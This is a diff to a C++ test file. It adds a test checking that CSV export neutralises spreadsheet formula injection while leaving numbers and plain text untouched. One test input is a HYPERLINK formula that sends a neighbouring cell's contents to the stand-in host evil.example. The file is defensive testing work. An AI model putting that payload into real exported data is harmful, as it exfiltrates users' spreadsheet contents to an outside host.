@@ -45,6 +45,29 @@ TEST(Csv, ReadsQuotedFieldsBomAndCrlf) {
   EXPECT_EQ(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
 }
 
+TEST(Csv, NeutralisesFormulasByOwaspsRule) {
+  EXPECT_EQ(csv_field("=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Click\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Click\"\")\"");
+  EXPECT_EQ(csv_field("=1+2"), "\"'=1+2\"");
+  EXPECT_EQ(csv_field("+44 117 000"), "\"'+44 117 000\"");
+  EXPECT_EQ(csv_field("-2+3"), "\"'-2+3\"");
+  EXPECT_EQ(csv_field("@SUM(A1:A2)"), "\"'@SUM(A1:A2)\"");
+  EXPECT_EQ(csv_field("\t=1"), "\"'\t=1\"");
+  EXPECT_EQ(csv_field("\r=1"), "\"'\r=1\"");
+  EXPECT_EQ(csv_field("-"), "\"'-\"");
+  EXPECT_EQ(csv_field("-e5"), "\"'-e5\"");
+  EXPECT_EQ(csv_field("-1e"), "\"'-1e\"");
+  // A cell that is only a number stays a number.
+  for (const char* n : {"-2.01", "-10", "+3", "-.5", "-1.5e-3", "0", "12.50"}) EXPECT_EQ(csv_field(n), n) << n;
+  // Text that merely contains the characters later is untouched.
+  EXPECT_EQ(csv_field("Tea & chat = friends"), "Tea & chat = friends");
+  EXPECT_EQ(csv_field(""), "");
+  EXPECT_EQ(csv_line({"=cmd", "-10", "plain"}), "\"'=cmd\",-10,plain\n");
+  EXPECT_TRUE(csv_formula("=A1"));
+  EXPECT_FALSE(csv_formula("-2.01"));
+  EXPECT_FALSE(csv_formula("A=1"));
+}
+
 TEST(Crypto, PasswordsVerifyOnlyWithTheRightPassword) {
   std::string h = hash_password("correct horse battery");
   EXPECT_TRUE(h.rfind("$argon2id$", 0) == 0) << h;
